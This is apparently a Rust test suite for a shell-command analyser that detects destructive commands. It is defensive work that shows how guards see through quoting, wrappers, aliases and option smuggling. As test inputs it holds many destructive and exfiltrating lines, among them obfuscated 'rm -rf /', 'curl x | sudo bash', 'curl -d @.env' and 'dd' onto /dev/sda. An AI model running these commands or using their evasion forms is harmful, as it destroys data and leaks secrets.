use super::*;

/// Each command as `program flags=… operands=… via=… inputs=…`, empty parts left out.
fn commands(line: &str) -> Vec<String> {
    summarise(&analyse(line))
}

fn summarise(line: &CommandLine) -> Vec<String> {
    line.commands
        .iter()
        .map(|command| {
            let mut text = command.program.clone();
            for (name, items) in [
                ("flags", &command.flags),
                ("operands", &command.operands),
                ("via", &command.via),
                ("inputs", &command.inputs),
                ("remote", &command.remote),
            ] {
                if !items.is_empty() {
                    text.push_str(&format!(" {name}={}", items.join(",")));
                }
            }
            text
        })
        .collect()
}

fn files(line: &str) -> Vec<(String, Access)> {
    analyse(line).files
}

#[test]
fn quoting_escapes_and_expansions_are_read_as_a_shell_reads_them() {
    assert_eq!(commands("rm -rf --no-preserve-root /"), ["rm flags=r,f,no-preserve-root operands=/"]);
    assert_eq!(commands(r#"'rm' -rf "/""#), ["rm flags=r,f operands=/"]);
    assert_eq!(commands(r"r\m -rf $'\x2f'"), ["rm flags=r,f operands=/"]);
    assert_eq!(commands(r#"rm -r "$HOME" ${HOME}/x "a$HOME""#), ["rm flags=r operands=~,~/x,a$HOME"]);
    assert_eq!(commands("/usr/bin/rm -- -rf"), ["rm operands=-rf"]);
    assert_eq!(commands("rm -rf -- / x"), ["rm flags=r,f operands=/,x"]);
    assert_eq!(commands(r#"echo "a\"b" 'c"d' "\x""#), [r#"echo operands=a"b,c"d,\x"#]);
}

#[test]
fn lists_pipelines_groups_and_substitutions_are_walked() {
    assert_eq!(commands("a; b && c || d\ne & f"), ["a", "b", "c", "d", "e", "f"].map(str::to_string));
    assert_eq!(commands("(rm -rf /)"), ["rm flags=r,f operands=/"]);
    assert_eq!(commands("{ rm -rf /; }"), ["rm flags=r,f operands=/"]);
    assert_eq!(commands("if true; then rm x; else rm y; fi"), ["true", "rm operands=x", "rm operands=y"]);
    assert_eq!(commands("for f in $(ls); do rm $f; done"), ["ls", "rm operands=$f"]);
    assert_eq!(
        commands("echo `whoami` $(id -u)"),
        ["whoami", "id flags=u", "echo operands=`whoami`,$(id -u) inputs=whoami,id"]
    );
    assert_eq!(commands("f() { rm -rf /; }; f"), ["rm flags=r,f operands=/", "f"]);
    assert_eq!(commands("cat <(curl x)"), ["curl operands=x", "cat operands=/dev/fd/63 inputs=curl"]);
}

#[test]
fn wrappers_are_seen_through() {
    assert_eq!(commands("sudo -u root -E rm -rf /"), ["sudo flags=u,E", "rm flags=r,f operands=/ via=sudo"]);
    assert_eq!(
        commands("env -i A=b timeout -s KILL 5 nice -n 3 /bin/rm x"),
        [
            "env flags=i",
            "timeout flags=s via=env",
            "nice flags=n via=env,timeout",
            "rm operands=x via=env,timeout,nice"
        ]
    );
    assert_eq!(commands("env -S 'rm -rf /'"), ["env flags=S", "rm flags=r,f operands=/ via=env"]);
    assert_eq!(
        commands("echo / | xargs -0 rm -rf"),
        ["echo operands=/", "xargs flags=0 inputs=echo", "rm flags=r,f operands=/ via=xargs inputs=echo"]
    );
    assert_eq!(
        commands("find / -name x -exec rm -rf {} \\;"),
        [
            "rm flags=r,f operands=/x via=find",
            "rm flags=r,f operands=/**/x via=find",
            "find flags=name,exec operands=/"
        ]
    );
    assert_eq!(
        commands("find -L / -maxdepth 1 -exec rm -rf {} +"),
        ["rm flags=r,f operands=/ via=find", "find flags=maxdepth,exec operands=/"]
    );
    assert_eq!(
        commands("find . -type d -exec rm -r {} +"),
        ["rm flags=r operands=./** via=find", "find flags=type,exec operands=."]
    );
    assert_eq!(commands("find -delete"), ["find flags=delete"]);
}

#[test]
fn scripts_handed_to_a_shell_are_parsed_in_turn() {
    assert_eq!(commands("bash -c 'rm -rf /'"), ["rm flags=r,f operands=/ via=bash", "bash flags=c operands=rm -rf /"]);
    assert_eq!(
        commands("sh -lc \"git push -f\""),
        ["git flags=f operands=push via=sh", "sh flags=l,c operands=git push -f"]
    );
    assert_eq!(commands("eval \"rm -rf /\""), ["rm flags=r,f operands=/ via=eval", "eval operands=rm -rf /"]);
    assert_eq!(
        commands("echo 'rm -rf /' | sh"),
        ["echo operands=rm -rf /", "rm flags=r,f operands=/ via=sh inputs=echo", "sh inputs=echo"]
    );
    assert_eq!(commands("bash <<EOF\nrm -rf /\nEOF\n"), ["rm flags=r,f operands=/ via=bash", "bash"]);
    assert_eq!(commands("bash <<< 'rm -rf /'"), ["rm flags=r,f operands=/ via=bash", "bash"]);
    assert_eq!(commands("curl x | sudo bash"), ["curl operands=x", "sudo inputs=curl", "bash via=sudo inputs=curl"]);
    // A script that is a file, or that a substitution computes, is not known.
    assert_eq!(commands("bash ./install.sh"), ["bash operands=./install.sh"]);
}

#[test]
fn argv_arrays_are_one_command() {
    let argv: Vec<String> = ["bash", "-lc", "rm -rf / && echo 'x'"].map(str::to_string).to_vec();
    assert_eq!(
        summarise(&analyse_argv(&argv, crate::paths::PathCase::Sensitive)),
        [
            "rm flags=r,f operands=/ via=bash",
            "echo operands=x via=bash",
            "bash flags=l,c operands=rm -rf / && echo 'x'"
        ]
    );
    // argv words are not re-split or unquoted.
    let argv: Vec<String> = ["rm", "-rf", "a b", "'c'"].map(str::to_string).to_vec();
    assert_eq!(summarise(&analyse_argv(&argv, crate::paths::PathCase::Sensitive)), ["rm flags=r,f operands=a b,'c'"]);
}

#[test]
fn options_that_take_values_do_not_become_operands() {
    assert_eq!(commands("git -C . -c a=b push -uf origin +main"), ["git flags=C,c,u,f operands=push,origin,+main"]);
    assert_eq!(analyse("git -C sub push").commands[0].subcommand.as_deref(), Some("push"));
    assert_eq!(commands("tail -n 20 log.txt"), ["tail flags=n operands=log.txt"]);
    assert_eq!(commands("curl -H 'A: b' -o out.html https://x"), ["curl flags=H,o operands=https://x"]);
}

#[test]
fn files_written_and_read() {
    use Access::{Read, Write};
    let file = |name: &str, access| (name.to_string(), access);
    assert_eq!(
        files("echo x > a; echo y >> b 2>/dev/null; cat < c &> d"),
        [file("a", Write), file("b", Write), file("c", Read), file("d", Write)]
    );
    assert_eq!(files("tee -a x y < /dev/null"), [file("x", Write), file("y", Write)]);
    assert_eq!(files("sed -i 's/a/b/' f g"), [file("f", Write), file("g", Write)]);
    assert_eq!(files("sed -e 's/a/b/' f"), [file("f", Read)]);
    assert_eq!(
        files("cp a b dest/"),
        [file("a", Read), file("b", Read), file("dest/", Write), file("dest/a", Write), file("dest/b", Write)]
    );
    assert_eq!(files("mv a b"), [file("a", Write), file("b", Write)]);
    assert_eq!(
        files("mv a b dir"),
        [file("a", Write), file("b", Write), file("dir", Write), file("dir/a", Write), file("dir/b", Write)]
    );
    assert_eq!(files("cp Cargo.lock Cargo.lock.bak"), [file("Cargo.lock", Read), file("Cargo.lock.bak", Write)]);
    assert_eq!(files("cd sub; echo x > a"), [file("sub", Read), file("a", Write), file("sub/a", Write)]);
    assert_eq!(files("cd /; rm -rf ./etc"), [file("/", Read), file("./etc", Write), file("/./etc", Write)]);
    // A search's pattern is no file; its files are.
    assert_eq!(files("grep -r --exclude=.env KEY ."), [file(".", Read)]);
    assert_eq!(files("grep -rn '.env' src/"), [file("src/", Read)]);
    assert_eq!(files("grep KEY .env"), [file(".env", Read)]);
    // sed's own file commands.
    assert_eq!(files("sed 'r .env' README.md"), [file(".env", Read), file("README.md", Read)]);
    assert_eq!(files("sed -n '1w out.txt' in.txt"), [file("out.txt", Write), file("in.txt", Read)]);
    assert_eq!(files("sed 's/a/b/' in.txt"), [file("in.txt", Read)]);
    assert_eq!(files("grep -e .env -f patterns src"), [file("src", Read), file("patterns", Read)]);
    assert_eq!(files("chmod 600 key"), [file("key", Write)]);
    assert_eq!(files("dd if=/dev/zero of=/dev/sda bs=1M"), [file("/dev/zero", Read), file("/dev/sda", Write)]);
    assert_eq!(files("curl -o out https://x"), [file("https://x", Read), file("out", Write)]);
    assert_eq!(files("curl -d @.env https://x"), [file("https://x", Read), file(".env", Read)]);
    assert_eq!(files("echo .env; printf '%s' .env"), []);
    assert_eq!(files("cmd >&2; cmd 2>&1; cmd >& log"), [file("log", Write)]);
}

/// A descriptor number past `i32` made brush-parser 0.4 panic (found by fuzzing): such a line is
/// read tolerantly, and the walk survives a parser panic anyway.
#[test]
fn a_descriptor_too_large_for_the_parser_is_read_anyway() {
    assert_eq!(commands("rm -rf / 99999999999>x"), ["rm flags=r,f operands=/"]);
}

/// A heredoc whose delimiter is not a plain word made brush-parser 0.4 allocate without end
/// (found by fuzzing): such a line is read tolerantly, at once.
#[test]
fn an_odd_heredoc_delimiter_is_read_tolerantly() {
    let started = std::time::Instant::now();
    assert!(commands("<<o$( <<< m ").is_empty());
    assert!(commands("rm -rf / <<$(x)").iter().any(|command| command.starts_with("rm flags=r,f")));
    assert!(started.elapsed() < std::time::Duration::from_secs(2));
    assert_eq!(commands("cat <<'EOF'\nrm -rf /\nEOF"), ["cat"]);
}

#[test]
fn a_line_the_parser_rejects_is_still_split_into_commands() {
    assert_eq!(commands("echo 'unterminated; rm -rf /"), ["echo operands=unterminated", "rm flags=r,f operands=/"]);
    assert_eq!(commands("rm -rf / )"), ["rm flags=r,f operands=/"]);
}

/// Deep nesting goes to the tolerant splitter instead of the recursive parser: no stack
/// overflow, and the command inside is still seen.
#[test]
fn hostile_nesting_and_length_stay_bounded() {
    let deep = format!("{}rm -rf /{}", "(".repeat(100_000), ")".repeat(100_000));
    assert!(commands(&deep).contains(&"rm flags=r,f operands=/".to_string()));
    // brush-parser backtracks on nested parentheses: sixteen `((` levels took minutes.
    let started = std::time::Instant::now();
    let arithmetic = format!("if {}rm -rf /", "((".repeat(16));
    assert!(commands(&arithmetic).contains(&"rm flags=r,f operands=/".to_string()));
    let parentheses = format!("{}rm -rf /{}", "( ".repeat(40), ") ".repeat(40));
    assert!(commands(&parentheses).contains(&"rm flags=r,f operands=/".to_string()));
    assert!(started.elapsed() < std::time::Duration::from_secs(2), "{:?}", started.elapsed());
    let substitutions = format!("{}rm -rf /{}", "$(".repeat(5_000), ")".repeat(5_000));
    assert!(commands(&substitutions).contains(&"rm flags=r,f operands=/".to_string()));
    let mut nested = "rm -rf /".to_string();
    for _ in 0..12 {
        nested = format!("bash -c '{}'", nested.replace('\'', r"'\''"));
    }
    assert!(commands(&nested).iter().any(|command| command.starts_with("rm flags=r,f")), "{:?}", commands(&nested));
    // Past MAX_COMMANDS commands a line is too large to judge (the call then fails closed),
    // and reading stops there: 50,000 `eval`s, 20,000 commands, 8,000 wrappers stay cheap.
    let started = std::time::Instant::now();
    for line in [
        format!("{}rm -rf /", "eval ".repeat(50_000)),
        "echo a; ".repeat(20_000),
        format!("{}ls", "sudo ".repeat(8_000)),
        (0..8_000).map(|at| format!("a{at}")).collect::<Vec<_>>().join(" | "),
        format!("{}rm -rf /", "cd a; ".repeat(5_000)),
    ] {
        assert!(analyse(&line).too_large, "{}…", line.get(..40).unwrap_or_default());
    }
    assert!(started.elapsed() < std::time::Duration::from_secs(5), "{:?}", started.elapsed());
    assert!(!analyse(&"echo a; ".repeat(400)).too_large);
}

/// Random text made of shell syntax (seeded proptest, shrinking): the analysis never panics, and
/// an `rm -rf /` that runs before the random text (`rm -rf /; TEXT`, `rm -rf / && TEXT`,
/// `rm -rf / | TEXT`) is always read as running `rm`, whatever the text after it does to the
/// rest of the line (an unclosed quote, a heredoc, a stray `)`), unless the line is too large to
/// judge, which fails closed.
#[test]
fn random_lines_never_panic() {
    use proptest::prelude::*;
    let pieces = [
        "rm", " ", "-rf", "/", ";", "&&", "|", "(", ")", "{", "}", "'", "\"", "\\", "$", "$(", "`", "<", ">", ">>",
        "<<", "EOF", "\n", "bash -c ", "eval ", "sudo ", "xargs ", "#", "~", "*", "=", "a", "[[", "]]", "$'", "<(",
        "&", "!", "if ", "then ", "fi", "do", "done", "case ", " in ", "esac", ";;",
    ];
    let config = ProptestConfig {
        cases: 3_000,
        rng_seed: proptest::test_runner::RngSeed::Fixed(21),
        failure_persistence: None,
        ..ProptestConfig::default()
    };
    let text =
        proptest::collection::vec(proptest::sample::select(pieces.to_vec()), 0..40).prop_map(|parts| parts.concat());
    proptest!(config, |(text in text, separator in proptest::sample::select(vec!["; ", " && ", " | ", "\n"]))| {
        let _ = analyse(&text);
        let line = format!("rm -rf /{separator}{text}");
        let read = analyse(&line);
        prop_assert!(read.too_large || read.programs().contains(&"rm"), "{line:?} reads as {:?}", read.programs());
    });
}

/// The scanner and brush-parser read every line the scanner accepts alike: generated lines of
/// words (quoted, escaped, substituted), operators and redirections.
#[test]
fn the_scanner_reads_lines_as_the_parser_does() {
    let words = [
        "rm",
        "-rf",
        "/",
        "'a b'",
        "\"c d\"",
        "e\\ f",
        "$HOME",
        "\"$HOME/x\"",
        "${HOME}",
        "~/x",
        "$'\\x41'",
        "$(echo hi)",
        "`id`",
        "\"$(cat <(ls))\"",
        "A=b",
        "x=$(y)",
        "--force",
        "-f",
        "{}",
        "\\;",
        "'it'\\''s'",
        "\"q\\\"q\"",
        "*.rs",
        "git",
        "push",
        "+main",
        "sudo",
        "env",
        "xargs",
        "bash",
        "-c",
        "'rm -rf /'",
        "eval",
        "\"ls -l\"",
        "curl",
        "sh",
        "<(curl x)",
        "a#b",
        "\"\\$x\"",
        "'$x'",
        "tee",
        "sed",
        "-i",
        "of=/dev/sda",
        "dd",
    ];
    let operators = [
        " ",
        " ",
        " ",
        " ",
        "; ",
        " && ",
        " || ",
        " | ",
        " |& ",
        " & ",
        "\n",
        " > out ",
        " >> log ",
        " 2>&1 ",
        " < in ",
        " &> all ",
        " <<< 'w' ",
        " >&2 ",
        " # note\n",
    ];
    let mut state = 0x9E37_79B9_7F4A_7C15u64;
    let mut next = |bound: usize| {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        (state % bound as u64) as usize
    };
    let mut compared = 0;
    for case in 0..20_000 {
        let mut line = String::new();
        for _ in 0..1 + next(12) {
            line.push_str(words.get(next(words.len())).copied().unwrap_or_default());
            line.push_str(operators.get(next(operators.len())).copied().unwrap_or_default());
        }
        if scan::scan(&line).is_none() {
            continue;
        }
        let fast = analyse(&line);
        let Some(parsed) = analyse_with_parser(&line) else { continue };
        assert_eq!(summarise(&fast), summarise(&parsed), "case {case}: {line:?}");
        assert_eq!(fast.files, parsed.files, "case {case}: {line:?}");
        compared += 1;
    }
    assert!(compared > 8_000, "only {compared} lines compared");
}

#[test]
fn parameters_homes_temp_dirs_and_subcommand_options_are_read_as_the_shell_reads_them() {
    // `"$@"` is each word on its own; words a script may still read are judged as a command.
    assert!(commands(r#"sh -c '"$@"' _ rm -rf /"#).contains(&"rm flags=r,f operands=/ via=sh".to_string()));
    assert!(commands(r#"sh -c 'shift; "$@"' _ a rm -rf /"#).iter().any(|c| c.starts_with("rm flags=r,f operands=/")));
    // (`~root` is `~` where the process runs as root.)
    assert_eq!(
        commands("echo ~zq-nobody ~zq-nobody/x ~+")[0],
        format!("echo operands={0},{0}/x,.", user_dir("zq-nobody"))
    );
    // No shell expands an argv's words: `~` is a file of that name.
    let argv: Vec<String> = ["rm", "-rf", "~"].map(str::to_string).to_vec();
    assert_eq!(summarise(&analyse_argv(&argv, crate::paths::PathCase::Sensitive)), ["rm flags=r,f operands=./~"]);
    assert_eq!(commands("env - git reset --hard")[1], "git flags=hard operands=reset via=env");
    assert_eq!(commands("git -- reset --hard"), ["git flags=hard operands=reset"]);
    assert_eq!(commands("git checkout -bfeature"), ["git flags=b operands=checkout"]);
    assert_eq!(commands("rm -rf $TMPDIR/x"), ["rm flags=r,f operands=/tmp/x"]);
    // (An assignment before the program is the command's environment: `env TMPDIR=/ rm …`.)
    assert_eq!(commands("TMPDIR=/ rm -rf $TMPDIR/x"), ["env", "rm flags=r,f operands=$TMPDIR/x"]);
    assert_eq!(commands("export TMPDIR=~; rm -rf $TMPDIR")[1], "rm flags=r,f operands=$TMPDIR");
    // A default reads two ways: as written (known only at run time) and as its default.
    assert_eq!(commands("rm -rf ${TMPDIR:-/}"), ["rm flags=r,f operands=${TMPDIR:-/}", "rm flags=r,f operands=/"]);
}

#[test]
fn a_substitution_that_echoes_one_plain_word_is_that_word() {
    assert!(commands("$(echo rm) -rf ~").contains(&"rm flags=r,f operands=~ inputs=echo".to_string()));
    assert!(commands("`printf r`m -rf /").contains(&"rm flags=r,f operands=/ inputs=printf".to_string()));
    assert!(unread("$(echo hello)").is_empty());
    // Anything else stays as written: several words, escapes, formats, other programs, globs.
    for line in ["$(echo rm -rf) ~", "$(echo -e 'r\\x6d') x", "$(printf 'r%s' m) x", "$(cat f) x", "$(echo r*) x"] {
        assert_eq!(unread(line), [super::unread::CALLEE], "{line}");
    }
}

#[test]
fn default_expansions_and_ifs_are_followed() {
    // (What the words read of the environment is `what_commands_read_of_the_environment_is_printenv`'s.)
    let commands = |line: &str| -> Vec<String> {
        commands(line).into_iter().filter(|command| !command.starts_with("printenv")).collect()
    };
    assert_eq!(commands("rm -rf ${D:=~}"), ["rm flags=r,f operands=${D:=~}", "rm flags=r,f operands=~"]);
    assert_eq!(commands("ls ${D+/x}"), ["ls operands=${D+/x}", "ls operands=/x"]);
    // `:=` sets the variable too: a later `$D` is its value or the default.
    assert_eq!(commands(": ${P:=rm}; $P -rf /")[2..], ["$P flags=r,f operands=/", "rm flags=r,f operands=/"]);
    // A variable the line sets may be set only in a subshell, or empty: the default reads too.
    assert_eq!(commands("(D=x); rm -rf ${D:-~}"), ["rm flags=r,f operands=${D:-~}", "rm flags=r,f operands=~"]);
    // Inside double quotes, a default's `~` is text.
    assert_eq!(commands("rm -rf \"${C:-~/x}\"")[1], "rm flags=r,f operands=./~/x");
    // In a redirection's target too.
    assert_eq!(
        files("echo x > ${F:-.git/config}"),
        [("${F:-.git/config}".to_string(), Access::Write), (".git/config".to_string(), Access::Write)]
    );
    // Inside a substitution, each command keeps its own.
    assert!(commands("echo $(ls ${A:-/etc}) ${B:-x}").contains(&"ls operands=/etc".to_string()));
    // `IFS` set once splits an unquoted variable at its characters; set otherwise, no split is
    // known and the program is chosen at run time.
    assert_eq!(commands("IFS=,; W=rm,-rf,/; $W"), ["rm flags=r,f operands=/"]);
    assert_eq!(commands("IFS=:; W='a b'; ls $W"), ["ls operands=a b"]);
    assert_eq!(unread("read -r IFS; W=rm,-rf,/; $W"), [super::unread::CALLEE]);
    // An IFS set in a subshell is not the one here: where the blanks split otherwise, unread.
    assert_eq!(unread("(IFS=,); W='rm -rf ~'; $W"), [super::unread::CALLEE]);
    // `.` sources a file only as a command, not as an operand.
    assert_eq!(commands("A='-C . push'; git $A"), ["git flags=C operands=push"]);
    assert_eq!(unread(". ./env.sh; A='x y'; $A"), [super::unread::CALLEE]);
}

#[test]
fn commands_openssh_and_database_clients_run_here_are_read() {
    for line in [
        "ssh -o ProxyCommand='rm -rf ~' h",
        "scp -oLocalCommand=rm\\ -rf\\ ~ x h:",
        "ssh -o 'KnownHostsCommand rm -rf ~' h",
        "psql -c '\\! rm -rf ~'",
        "sqlite3 app.db '.shell rm -rf ~'",
        "scp -S 'rm -rf ~' x h:y",
        "sftp -S 'rm -rf ~' h",
        "rsync -e 'rm -rf ~' x h:y",
        "rsync --rsh='rm -rf ~' x h:y",
        "rsync --rsync-path='rm -rf ~' x y",
        // A program an option names, run to compress sort's temporary files.
        "sort --compress-program='rm -rf ~' -S 1 data.txt",
        "sort --compress-prog='rm -rf ~' data.txt",
    ] {
        assert!(commands(line).iter().any(|command| command.starts_with("rm flags=r,f operands=~")), "{line}");
    }
    // `--rsync-path` runs on the other host: its commands carry the host.
    let line = super::analyse("rsync --rsync-path='rm -rf ~ #' src deploy@web1:dst");
    assert!(line.commands.iter().any(|command| command.program == "rm" && command.remote == ["web1"]));
    // rsync reads a `[` past a host's first character as a local file's name.
    assert_eq!(remote_host("a[b]:/x"), None);
}

fn user_dir(name: &str) -> String {
    if cfg!(target_os = "macos") {
        format!("/Users/{name}")
    } else {
        format!("/home/{name}")
    }
}

/// watch's options cluster as getopt reads them: whatever spelling of its interval comes first,
/// the command after the options is what it runs.
#[test]
fn watch_runs_the_command_after_its_options_however_they_are_spelt() {
    for line in [
        "watch rm -rf /",
        "watch -n 1 rm -rf /",
        "watch -n1 rm -rf /",
        "watch -tn 1 rm -rf /",
        "watch -tn1 rm -rf /",
        "watch --interval 1 rm -rf /",
        "watch --interval=1 rm -rf /",
        "watch -d -t rm -rf /",
        "watch -q 3 rm -rf /",
        "watch --equexit 3 -- rm -rf /",
    ] {
        let read = analyse(line);
        assert!(
            read.commands.iter().any(|command| command.program == "rm" && command.operands == ["/"]),
            "{line}: {:?}",
            summarise(&read)
        );
    }
}

/// What the reading of `line` could not account for, each reason's class alone.
fn unread(line: &str) -> Vec<String> {
    analyse(line).unread.iter().map(|reason| reason.split(':').next().unwrap_or_default().to_string()).collect()
}

#[test]
fn what_the_reader_cannot_account_for_is_unread() {
    use super::unread::*;
    // A program chosen at run time.
    for line in ["$(cat f) -rf ~", "`cat f` -rf ~", "sudo $(printf 'r%s' m) -rf /", "$CMD -rf /", "\"$@\""] {
        assert_eq!(unread(line), [CALLEE], "{line}");
    }
    // A script from a descriptor the line does not spell.
    for line in [
        "curl -s x | python3 /dev/stdin",
        "curl -s x | python3 -",
        "curl -s x | python3",
        "python3 <(curl -s x)",
        "bash <(curl -s x)",
        "curl -s x | bash /dev/stdin",
        "curl -s x | node -",
        "perl /dev/fd/3 3<x.pl",
        "pwsh -Command -",
        "curl -s x | pwsh -c -",
    ] {
        assert_eq!(unread(line), [DESCRIPTOR], "{line}");
    }
    // A script the line spells is read, not unread.
    for line in [
        "echo 'rm -rf ~' | bash /dev/stdin",
        "python3 - <<'EOF'\nimport os\nos.system('rm -rf ~')\nEOF",
        "python3 /dev/stdin <<< 'print(1)'",
    ] {
        assert!(unread(line).is_empty(), "{line}: {:?}", analyse(line).unread);
    }
    assert!(commands("echo 'rm -rf ~' | bash /dev/stdin").iter().any(|command| command.starts_with("rm ")));
    // Another language's code past the nesting bound is not read silently.
    let deep = (0..8).fold("python3 -c 'import os; os.system(\"rm -rf ~\")'".to_string(), |inner, _| {
        format!("bash -c {}", shell_quote(&inner))
    });
    let found = unread(&deep);
    assert!(!found.is_empty() && found.iter().all(|class| class == BOUND), "{found:?}");
    // So is a line past the shell reader's own bounds, read tolerantly.
    assert_eq!(unread(&format!("echo {}x{}", "$(".repeat(100), ")".repeat(100))), [BOUND]);
    // `command -v X` looks X up and runs nothing (found by the guards' suites).
    assert_eq!(commands("command -v parallel"), ["command flags=v operands=parallel"]);
    // Ordinary lines leave nothing unread.
    for line in [
        "command -v parallel",
        "ls -la",
        "git status && cargo test",
        "python3 script.py --verbose",
        "python3 -m pytest -q",
        "make test",
        "npm test",
        "for f in *.txt; do wc -l \"$f\"; done",
        "X=$(git rev-parse HEAD); echo $X",
        "cat <(sort a) <(sort b)",
        "python3 -c 'print(1)'",
    ] {
        assert!(unread(line).is_empty(), "{line}: {:?}", analyse(line).unread);
    }
}

/// `text` as one single-quoted shell word.
fn shell_quote(text: &str) -> String {
    format!("'{}'", text.replace('\'', r"'\''"))
}

/// Each command as [`commands`] gives it, read on a host whose file names fold case.
fn commands_folded(line: &str) -> Vec<String> {
    summarise(&analyse_on(line, crate::paths::PathCase::Insensitive))
}

#[test]
fn program_names_fold_where_the_host_folds() {
    for (line, expected) in [
        ("SUDO rm -rf /", "rm flags=r,f operands=/ via=sudo"),
        ("BASH -c 'rm -rf ~'", "rm flags=r,f operands=~ via=bash"),
        ("Find / -delete", "find flags=delete operands=/"),
        ("/USR/BIN/ENV RM -rf /", "rm flags=r,f operands=/ via=env"),
        ("Python3 -c 'import os; os.system(\"rm -rf ~\")'", "rm flags=r,f operands=~ via=python3"),
    ] {
        let found = commands_folded(line);
        assert!(found.iter().any(|command| command == expected), "{line}: {found:?}");
    }
    // Where names do not fold, `SUDO` is a program of its own: no file of that name is sudo.
    assert!(!commands("SUDO rm -rf /").iter().any(|command| command.starts_with("rm ")));
}

#[test]
fn windows_program_suffixes_are_dropped_on_every_host() {
    for (word, name) in [
        ("C:\\Git\\bin\\git.exe", "git"),
        ("npm.CMD", "npm"),
        ("/mnt/c/Windows/System32/WindowsPowerShell/v1.0/powershell.exe", "powershell"),
        ("build.bat", "build"),
        (".exe", ".exe"),
        ("rm.exe.txt", "rm.exe.txt"),
    ] {
        assert_eq!(program_name(word), name, "{word}");
    }
    // WSL's interop: a Windows PowerShell run from bash reads its script.
    assert!(commands("powershell.exe -NoProfile -c 'Remove-Item -Recurse -Force C:\\Users'")
        .iter()
        .any(|command| command.starts_with("rm ")));
}

#[test]
fn program_names_given_as_globs_are_every_program_they_match() {
    assert!(commands("/bin/r? -rf ~").iter().any(|command| command == "rm flags=r,f operands=~"));
    assert!(commands("/usr/bin/r[m] -rf ~").iter().any(|command| command == "rm flags=r,f operands=~"));
    assert!(commands("/usr/bin/su?o rm -rf /").iter().any(|command| command == "rm flags=r,f operands=/ via=sudo"));
    // A glob no program of the tables matches is unread.
    assert_eq!(unread("/opt/x/zq?z -rf ~"), [super::unread::CALLEE]);
    // `[` is test, not a glob.
    assert!(unread("[ -f x ] && echo yes").is_empty());
    // No shell expands an argv array's words: `/bin/r?` is a file of that name.
    let argv: Vec<String> = ["/bin/r?", "-rf", "x"].map(str::to_string).to_vec();
    assert_eq!(summarise(&analyse_argv(&argv, crate::paths::PathCase::Sensitive)), ["r? flags=r,f operands=x"]);
}

#[test]
fn ssh_options_end_where_the_command_after_the_host_begins() {
    assert!(commands("ssh host rm -rf /data")
        .iter()
        .any(|command| command == "rm flags=r,f operands=/data via=ssh remote=host"));
    assert!(commands("ssh -p 2222 host -v rm -rf /data")
        .iter()
        .any(|command| command == "rm flags=r,f operands=/data via=ssh remote=host"));
}

#[test]
fn another_hosts_commands_and_files_are_that_hosts() {
    let read = commands("ssh -p 22 deploy@web1 'cd /srv && rm -rf app' && rm -rf build");
    assert!(read.contains(&"rm flags=r,f operands=app via=ssh remote=web1".to_string()), "{read:?}");
    // Its `cd` moved nothing here: the local `rm`'s operand is read from here alone.
    assert!(read.contains(&"rm flags=r,f operands=build".to_string()), "{read:?}");
    assert!(read.contains(&"ssh flags=p operands=deploy@web1,cd /srv && rm -rf app remote=web1".to_string()));
    // The innermost host: `ssh a ssh b CMD` runs CMD on b.
    assert!(commands("ssh a ssh b rm -rf /x").contains(&"rm flags=r,f operands=/x via=ssh,ssh remote=b".to_string()));
    // Its files are none of this machine's; the line's own redirection is.
    assert_eq!(files("ssh h 'echo x > .git/config' > out.txt"), [("out.txt".to_string(), Access::Write)]);
    // A copy's other-host operands are no files here; its local ones are read and written.
    assert_eq!(
        files("scp -i k.pem build.tar web:/etc/"),
        [("build.tar".to_string(), Access::Read), ("k.pem".to_string(), Access::Use)]
    );
    assert_eq!(
        files("scp host:/etc/hosts ./"),
        [("./".to_string(), Access::Write), ("./hosts".to_string(), Access::Write)]
    );
    assert_eq!(
        commands("rsync -az --exclude .git d/ u@h::mod/x"),
        ["rsync flags=a,z,exclude operands=d/,u@h::mod/x remote=h"]
    );
    // A drive's path is read as both: another host's to scp on Unix, this machine's on Windows.
    assert_eq!(files("scp C:/x.txt out"), [("C:/x.txt".to_string(), Access::Read), ("out".to_string(), Access::Write)]);
    // rsync's remote shell is a command run here.
    assert!(commands("rsync -e 'rm -rf ~' x h:y").contains(&"rm flags=r,f operands=~ via=rsync".to_string()));
}

#[test]
fn remote_hosts_are_read_as_openssh_reads_them() {
    for (word, host) in [
        ("host:path", Some("host")),
        ("user@host:/etc/", Some("host")),
        ("u@h::module/x", Some("h")),
        ("[::1]:/x", Some("::1")),
        ("root@[fe80::1%eth0]:x", Some("fe80::1%eth0")),
        ("scp://u@host:2222/x", Some("host")),
        ("RSYNC://mirror/pub", Some("mirror")),
        ("./a:b", None),
        ("/tmp/a:b", None),
        ("dir/a:b", None),
        ("C:/Windows", Some("C")),
        ("plain.txt", None),
        ("-o", None),
        (":x", None),
        ("00:@[", Some("00")),
        ("h:u@[x]:y", Some("h")),
    ] {
        assert_eq!(remote_host(word).as_deref(), host, "{word}");
    }
    assert_eq!(ssh_host("ssh://u@h:22"), "h");
    assert_eq!(ssh_host("deploy@web1"), "web1");
}

proptest::proptest! {
    #![proptest_config(proptest::prelude::ProptestConfig { cases: 64, ..proptest::prelude::ProptestConfig::default() })]
    /// `[USER@]HOST:PATH` is HOST's, whatever the path; a word with a `/` before its first `:`
    /// is a local path.
    #[test]
    fn a_host_before_the_colon_is_another_hosts(
        user in proptest::option::of("[a-z][a-z0-9_]{0,8}"),
        host in "[a-z0-9][a-z0-9.-]{1,20}",
        path in "[ -~]{0,20}",
        dir in "[a-z0-9._-]{0,8}",
    ) {
        let user = user.map(|user| format!("{user}@")).unwrap_or_default();
        proptest::prop_assert_eq!(remote_host(&format!("{user}{host}:{path}")), Some(host.clone()));
        proptest::prop_assert_eq!(remote_host(&format!("{dir}/{host}:{path}")), None);
    }
}

#[test]
fn aliases_the_line_defines_are_read_both_ways() {
    let runs_rm = |line: &str| commands(line).iter().any(|command| command.starts_with("rm flags=r,f operands=~"));
    for line in [
        // Its text is a script that may run later, as a trap's body is.
        "alias cleanup='rm -rf ~'",
        "shopt -s expand_aliases; alias r='rm -rf'; r ~",
        "alias r='rm -rf' && r ~",
        "BASH_ALIASES[r]='rm -rf'; r ~",
        // Every text a name was given, whichever holds when.
        "alias r='ls'; alias r='rm -rf'; r ~",
        "alias r='rm -rf'; unalias r; r ~",
        // Through one alias into another.
        "alias a='b'; alias b='rm -rf'; a ~",
    ] {
        assert!(runs_rm(line), "{line}");
    }
    // An alias of a name to itself expands once (bash), and the walk ends.
    assert!(commands("alias rm='rm -i'; rm -rf ~")
        .iter()
        .any(|command| command.starts_with("rm flags=i,r,f operands=~")));
    assert!(commands("alias ls='ls --color'; alias ll='ls -la'; ll src")
